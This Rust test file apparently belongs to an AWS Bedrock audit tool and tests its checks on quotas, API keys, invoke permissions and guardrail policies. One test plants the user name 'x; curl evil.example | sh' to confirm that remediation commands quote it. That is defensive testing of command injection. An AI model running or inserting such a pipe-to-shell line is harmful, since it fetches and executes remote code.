#[test]
fn quota_for_a_global_profile_uses_the_global_quota() {
    let mut profile = profile();
    profile.rollout.primary_model = "global.anthropic.claude-sonnet-4-5-20250929-v1:0".into();
    let findings = run(QUOTAS, &ready(), &profile);
    // The fixture has the global TPM quota but no global RPM quota: Bedrock applies RPM to
    // some models only (Quotas for the bedrock-runtime endpoint), so that is no error.
    assert_status(
        &findings[0],
        Status::Pass,
        &[
            "Global cross-Region model inference tokens per minute",
            "L-7A2C4F19",
        ],
    );
    assert!(!findings[0].message.contains("L-59759B4A"));
    assert!(findings[0]
        .evidence
        .iter()
        .any(|e| e.values["listed"] == false
            && e.values["wanted"]
                .as_str()
                .is_some_and(|w| w.starts_with("global cross-Region requests per minute"))));
    assert!(findings[0]
        .evidence
        .iter()
        .any(|e| e.values.get("QuotaCode") == Some(&serde_json::json!("L-7A2C4F19"))));
}

// ---- bedrock-api-keys ------------------------------------------------------------------------

fn keys_mut(snapshot: &mut Snapshot) -> &mut bedrock_audit::snapshot::BedrockApiKeys {
    match snapshot.bedrock_api_keys.as_mut() {
        Some(Collected::Ok { data }) => data,
        _ => panic!("keys not readable in the fixture"),
    }
}

fn active_key() -> ApiKey {
    ApiKey {
        user_name: "alice".into(),
        credential_id: "ACCA3EXAMPLEACTIVE01".into(),
        status: "Active".into(),
        create_date: Some("2025-10-02T09:14:00Z".into()),
        expiration_date: None,
    }
}

#[test]
fn api_keys_pass_with_only_inactive_keys() {
    let findings = run(KEYS, &ready(), &profile());
    let f = only(&findings);
    assert_status(f, Status::Pass, &["3 users checked", "1 inactive"]);
    assert_eq!(f.region, "global");
}

#[test]
fn an_active_key_fails_naming_user_id_dates_and_never_a_secret() {
    let mut snapshot = ready();
    keys_mut(&mut snapshot).keys.push(active_key());
    let findings = run(KEYS, &snapshot, &profile());
    let f = only(&findings);
    assert_status(
        f,
        Status::Fail,
        &[
            "alice",
            "ACCA3EXAMPLEACTIVE01",
            "created 2025-10-02T09:14:00Z",
            "expires never",
        ],
    );
    assert!(f
        .resource
        .ends_with("user/alice/service-specific-credential/ACCA3EXAMPLEACTIVE01"));
    let text = serde_json::to_string(f).unwrap();
    assert!(!text.to_ascii_lowercase().contains("password"), "{text}");

    // Accepted by the profile: pass, and the key is still shown.
    let mut allowing = profile();
    allowing.access.allow_long_term_api_keys = true;
    let f = run(KEYS, &snapshot, &allowing).remove(0);
    assert_status(
        &f,
        Status::Pass,
        &["1 Active long-term", "accepted by the profile"],
    );
    let counts = &f.evidence[0].values;
    assert_eq!(counts["active_keys"], 1);
    assert_eq!(counts["inactive_keys"], 1);
    assert_eq!(counts["users_checked"], 3);
}

#[test]
fn an_expired_key_passes_and_an_unknown_status_is_an_error_not_a_pass() {
    let mut snapshot = ready();
    keys_mut(&mut snapshot).keys.push(ApiKey {
        status: "Expired".into(),
        ..active_key()
    });
    let f = run(KEYS, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Pass, &["3 users checked", "2 inactive"]);

    keys_mut(&mut snapshot).keys.push(ApiKey {
        credential_id: "ACCA3EXAMPLEODD00001".into(),
        status: "Suspended".into(),
        ..active_key()
    });
    let findings = run(KEYS, &snapshot, &profile());
    let f = only(&findings);
    assert_status(
        f,
        Status::Error,
        &["alice", "ACCA3EXAMPLEODD00001", "\"Suspended\""],
    );
    // An unknown status is never waved through, even where long-term keys are accepted.
    let mut allowing = profile();
    allowing.access.allow_long_term_api_keys = true;
    let findings = run(KEYS, &snapshot, &allowing);
    assert_eq!(only(&findings).status, Status::Error);
}

#[test]
fn api_keys_error_when_users_or_a_user_are_unreadable_or_not_collected() {
    let mut snapshot = ready();
    snapshot.bedrock_api_keys = Some(Collected::failed(error(
        "iam:ListUsers",
        ErrorKind::AccessDenied,
        "AccessDenied",
    )));
    assert_status(
        only(&run(KEYS, &snapshot, &profile())),
        Status::Error,
        &["iam:ListUsers failed"],
    );

    let mut snapshot = ready();
    snapshot.bedrock_api_keys = None;
    assert_status(
        only(&run(KEYS, &snapshot, &profile())),
        Status::Error,
        &["not collected"],
    );

    let mut snapshot = ready();
    keys_mut(&mut snapshot).unreadable.push(UnreadableUser {
        user_name: "bob".into(),
        error: error(
            "iam:ListServiceSpecificCredentials",
            ErrorKind::Throttling,
            "Throttling",
        ),
    });
    let f = only(&run(KEYS, &snapshot, &profile())).clone();
    assert_status(&f, Status::Error, &["IAM user bob"]);

    // An Active key elsewhere still fails, and the unreadable user is still reported.
    keys_mut(&mut snapshot).keys.push(active_key());
    let statuses: Vec<Status> = run(KEYS, &snapshot, &profile())
        .iter()
        .map(|f| f.status)
        .collect();
    assert_eq!(statuses, [Status::Fail, Status::Error]);
}

#[test]
fn an_older_snapshot_without_the_new_sections_errors_and_never_passes() {
    let mut value: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(
            // A version-1 file: written before these sections were collected.
            Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/v1-ready.snapshot.json"),
        )
        .unwrap(),
    )
    .unwrap();
    value.as_object_mut().unwrap().remove("bedrock_api_keys");
    for region in value["regions"].as_array_mut().unwrap() {
        let region = region.as_object_mut().unwrap();
        region.remove("invoke_simulations");
        region.remove("service_quotas");
    }
    let snapshot = parse_snapshot(&value.to_string(), Path::new("old.json")).unwrap();
    for rule in [INVOKE, QUOTAS, KEYS] {
        for f in run(rule, &snapshot, &profile()) {
            assert_eq!(f.status, Status::Error, "{rule}: {}", f.message);
        }
    }
}

#[test]
fn accepting_long_term_keys_when_none_is_active_says_no_key_is_held() {
    // With the profile accepting long-term keys but only an Inactive key present, the pass
    // says no key is held, not "0 Active key(s) … accepted by the profile".
    let mut allowing = profile();
    allowing.access.allow_long_term_api_keys = true;
    let findings = run(KEYS, &ready(), &allowing);
    let f = only(&findings);
    assert_status(
        f,
        Status::Pass,
        &[
            "No IAM user holds an Active long-term Bedrock API key",
            "1 inactive",
        ],
    );
    assert!(
        !f.message.contains("accepted by the profile"),
        "{}",
        f.message
    );
}

#[test]
fn invoke_names_exactly_the_denied_action_and_model() {
    // One pair denied among four that share an action or a model: the failure names that
    // action on that model, not its neighbour with the same action or the same model.
    const SONNET: &str =
        "arn:aws:bedrock:us-west-2::foundation-model/anthropic.claude-sonnet-4-5-20250929-v1:0";
    let mut snapshot = ready();
    let simulation = east(&mut snapshot)
        .invoke_simulations
        .iter_mut()
        .find(|s| s.requested_region == "us-west-2" && s.resource_arns.iter().any(|r| r == SONNET))
        .unwrap();
    let Collected::Ok { data } = &mut simulation.results else {
        panic!()
    };
    let denied = data
        .iter_mut()
        .find(|r| r.action == "bedrock:InvokeModelWithResponseStream" && r.resource == SONNET)
        .unwrap();
    denied.decision = "implicitDeny".into();
    denied.matched_statements.clear();
    let findings = run(INVOKE, &snapshot, &profile());
    let f = only(&findings);
    assert_status(
        f,
        Status::Fail,
        &[&format!(
            "in us-west-2, bedrock:InvokeModelWithResponseStream on {SONNET} is implicitDeny"
        )],
    );
    assert!(
        !f.message.contains("bedrock:InvokeModel on"),
        "{}",
        f.message
    );
    assert!(!f.message.contains("claude-haiku"), "{}", f.message);
}

#[test]
fn quota_names_with_an_unknown_word_beside_the_right_one_are_other_quotas() {
    // Variants the live list could hold beside the real quota: an unknown word before the
    // version, and an unknown trailing word that ends in the revision number. Each is another
    // quota, so the Sonnet finding still passes on L-59759B4A alone.
    let mut snapshot = ready();
    let Some(Collected::Ok { data }) = east(&mut snapshot).service_quotas.as_mut() else {
        panic!()
    };
    for (code, name) in [
        (
            "L-0000EXT1",
            "Cross-region model inference tokens per minute for Anthropic Claude Sonnet Extended 4.5 V1",
        ),
        (
            "L-0000R001",
            "Cross-region model inference tokens per minute for Anthropic Claude Sonnet 4.5 V1 R1",
        ),
    ] {
        data.push(ServiceQuota {
            quota_code: code.into(),
            quota_name: name.into(),
            value: Some(0.0),
            adjustable: true,
        });
    }
    let findings = run(QUOTAS, &snapshot, &profile());
    assert_status(&findings[0], Status::Pass, &["L-59759B4A", "L-12D9F6D4"]);
    assert!(
        !findings[0].message.contains("L-0000"),
        "{}",
        findings[0].message
    );
}

#[test]
fn quotas_of_an_opus_model_are_found_by_its_family_and_version() {
    let mut snapshot = ready();
    let Some(Collected::Ok { data }) = east(&mut snapshot).service_quotas.as_mut() else {
        panic!()
    };
    for (code, name, value) in [
        (
            "L-0PUS41TP",
            "Cross-region model inference tokens per minute for Anthropic Claude Opus 4.1",
            2_000_000.0,
        ),
        (
            "L-0PUS41RQ",
            "Cross-region model inference requests per minute for Anthropic Claude Opus 4.1",
            400.0,
        ),
    ] {
        data.push(ServiceQuota {
            quota_code: code.into(),
            quota_name: name.into(),
            value: Some(value),
            adjustable: true,
        });
    }
    let mut profile = profile();
    profile.rollout.primary_model = "us.anthropic.claude-opus-4-1-20250805-v1:0".into();
    let findings = run(QUOTAS, &snapshot, &profile);
    assert_status(
        &findings[0],
        Status::Pass,
        &["L-0PUS41TP) is 2000000", "L-0PUS41RQ) is 400"],
    );
}

#[test]
fn a_remediation_command_quotes_the_user_name_it_takes_from_the_snapshot() {
    // Issue 24: an IAM user name reached the copy-paste command unquoted. IAM user names allow
    // only `+=,.@_-` besides letters and digits (IAM API reference, CreateUser UserName), but a
    // snapshot is input and may hold anything.
    let mut snapshot = ready();
    keys_mut(&mut snapshot).keys.push(ApiKey {
        user_name: "x; curl evil.example | sh".into(),
        status: "Suspended".into(),
        ..active_key()
    });
    let findings = run(KEYS, &snapshot, &profile());
    let f = only(&findings);
    assert!(
        f.remediation
            .contains("--user-name 'x; curl evil.example | sh' --service-name"),
        "{}",
        f.remediation
    );
}

/// The organisation's Bedrock policy (organizations:DescribeEffectivePolicy): a policy that
/// cannot be parsed, or was not read, leaves the decision open; a guardrail it enforces in
/// another region only does not matter here.
#[test]
fn an_organisation_bedrock_policy_that_cannot_be_read_is_an_error() {
    let mut snapshot = ready();
    snapshot.bedrock_policy = Some(Collected::ok(Some("{not json".into())));
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(
        &f,
        Status::Error,
        &["organisation's Bedrock policy cannot be read"],
    );

    let mut snapshot = ready();
    snapshot.bedrock_policy = None;
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(
        &f,
        Status::Error,
        &["organisation's Bedrock policy was not read"],
    );

    let mut snapshot = ready();
    snapshot.bedrock_policy = Some(Collected::ok(Some(
        serde_json::json!({"bedrock": {"guardrail_inference": {"eu-west-1": {"c": {
            "identifier": "arn:aws:bedrock:eu-west-1:111111111111:guardrail/g:1"}}}}})
        .to_string(),
    )));
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(&f, Status::Pass, &[DEVELOPER]);
}

/// The organisation's Bedrock policy enforcing a guardrail of the management account in the
/// region (its identifier `ARN:version`), and the developer's ApplyGuardrail decision on it.
fn with_organization_guardrail(identifier: &str, decision: &str) -> Snapshot {
    const ORG_GUARDRAIL: &str = "arn:aws:bedrock:us-east-1:999999999999:guardrail/orgguard";
    let mut snapshot = ready();
    snapshot.bedrock_policy = Some(Collected::ok(Some(
        serde_json::json!({"bedrock": {"guardrail_inference": {"us-east-1": {"company": {
            "identifier": {"@@assign": identifier}}}}}})
        .to_string(),
    )));
    east(&mut snapshot)
        .invoke_simulations
        .push(apply_guardrail_simulation(ORG_GUARDRAIL, decision));
    snapshot
}

#[test]
fn an_organisation_guardrail_needs_a_pinned_version_and_the_developers_apply_permission() {
    const PINNED: &str = "arn:aws:bedrock:us-east-1:999999999999:guardrail/orgguard:7";
    let f = run(
        INVOKE,
        &with_organization_guardrail(PINNED, "allowed"),
        &profile(),
    )
    .remove(0);
    assert_status(&f, Status::Pass, &[DEVELOPER]);
    let f = run(
        INVOKE,
        &with_organization_guardrail(PINNED, "implicitDeny"),
        &profile(),
    )
    .remove(0);
    assert_status(
        &f,
        Status::Fail,
        &[
            "orgguard",
            "the organisation's Bedrock policy makes Bedrock enforce",
            "implicitDeny",
        ],
    );
    for unpinned in [
        "arn:aws:bedrock:us-east-1:999999999999:guardrail/orgguard",
        "arn:aws:bedrock:us-east-1:999999999999:guardrail/orgguard:DRAFT",
    ] {
        let f = run(
            INVOKE,
            &with_organization_guardrail(unpinned, "allowed"),
            &profile(),
        )
        .remove(0);
        assert_status(&f, Status::Fail, &["pins no numbered version"]);
    }
}

#[test]
fn an_account_guardrail_the_scan_could_not_read_is_an_error_not_an_organisation_one() {
    let mut snapshot = with_enforced_guardrail("READY", "3", "allowed");
    if let Some(Collected::Ok { data }) = &mut east(&mut snapshot).enforced_guardrails {
        data[0].guardrail = None;
    }
    let f = run(INVOKE, &snapshot, &profile()).remove(0);
    assert_status(
        &f,
        Status::Error,
        &["names no guardrail the scan could read"],
    );
}
